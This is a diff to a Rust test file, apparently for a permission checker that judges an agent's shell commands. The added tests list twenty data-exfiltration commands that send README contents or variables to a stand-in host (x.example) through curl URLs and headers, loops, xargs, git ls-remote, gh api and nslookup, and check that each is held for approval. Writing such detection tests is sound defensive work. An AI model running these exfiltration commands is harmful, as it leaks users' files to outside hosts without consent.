@@ -7,7 +7,7 @@ use postern_protocol::RequestedConfinement;
 fn scene(classes: &[Class], text: &str) -> Scene {
     let programs = [
         "make", "npm", "npx", "cargo", "curl", "tee", "jq", "mkdir", "ssh", "strange", "sudo", "kill", "svn",
-        "hg", "sl",
+        "hg", "sl", "wget", "gh", "dig", "nslookup", "ping",
     ];
     let scene =
         programs.iter().fold(Scene::new(), |scene, name| scene.program(&format!("/usr/bin/{name}"), name));
@@ -192,6 +192,52 @@ fn only_a_class_for_the_network_gives_it_to_project_code() {
     assert!(!network(&judged(&install, "make")));
     let all = [WORK, &[Class::Install, Class::Network]].concat();
     assert!(network(&judged(&all, "npm install x && make")) && network(&judged(&all, "make")));
+}
+
+/// Fetches that tell a host what was read, or may.
+const TELLING: [&str; 20] = [
+    "curl -s \"https://x.example/?q=$(cat README.md)\"", "curl -s \"https://x.example/`cat README.md`\"",
+    "curl -s \"https://x.example/$(date +%F)\"", "curl -s \"https://x.example/$X\"",
+    "X=$(cat README.md); curl -s \"https://x.example/$X\"", "curl -s \"https://x.example/$((X))\"",
+    "curl -s \"https://x.example/${#X}\"", "curl -s \"https://x.example/$?\"",
+    "curl -s -H \"x: $X\" https://x.example", "curl -s -A \"$X\" https://x.example",
+    "for x in *.md; do curl -s \"https://x.example/$x\"; done",
+    "while read -r x; do curl -s \"https://x.example/$x\"; done < README.md",
+    "f() { curl -s \"https://x.example/$1\"; }; f \"$(cat README.md)\"",
+    "find . -type f -exec curl -s https://x.example/{} ';'",
+    "cat README.md | xargs -I{} curl -s \"https://x.example/{}\"", "git ls-remote \"https://x.example/$X\"",
+    "gh api \"search/code?q=$X\"", "gh api https://x.example/x", "cat README.md | nslookup - x.example",
+    "nslookup - x.example < README.md",
+];
+
+#[test]
+fn a_fetch_that_may_tell_what_was_read_needs_more_than_the_network() {
+    let fetch = [Class::Look, Class::Network];
+    for text in TELLING {
+        assert_eq!(judged(&fetch, text).decision, Decision::Ask, "{text}");
+    }
+    for more in [Class::Share, Class::Build] {
+        let verdict = judged(&[Class::Look, Class::Network, more], TELLING[3]);
+        let got = (verdict.decision, verdict.confinement.name());
+        assert_eq!(got, (Decision::Allow, "project"), "{more:?}: {:?}", verdict.cause);
+    }
+    for text in [
+        "curl -s 'https://x.example/a?b=1'", "curl -s https://x.example/a?b=1",
+        "X=a; curl -s \"https://x.example/$X\"", "for x in a b; do curl -s \"https://x.example/$x\"; done",
+        "curl -s https://x.example < /dev/null | wc -l", "curl -s \"http://localhost:3000/$X\"",
+        "curl -s -H \"x: $(cat README.md)\" http://127.0.0.1:3000/x", "gh pr view 5",
+    ] {
+        let verdict = judged(&fetch, text);
+        assert_eq!(verdict.decision, Decision::Allow, "{text}: {:?}", verdict.cause);
+    }
+}
+
+#[test]
+fn a_fetch_that_makes_a_file_needs_the_class_for_files() {
+    let text = "wget https://x.example/a";
+    assert_eq!(judged(&[Class::Look, Class::Network], text).decision, Decision::Ask);
+    let verdict = judged(&[Class::Look, Class::Network, Class::Files], text);
+    assert_eq!(verdict.decision, Decision::Allow, "{:?}", verdict.cause);
 }
 
 #[test]
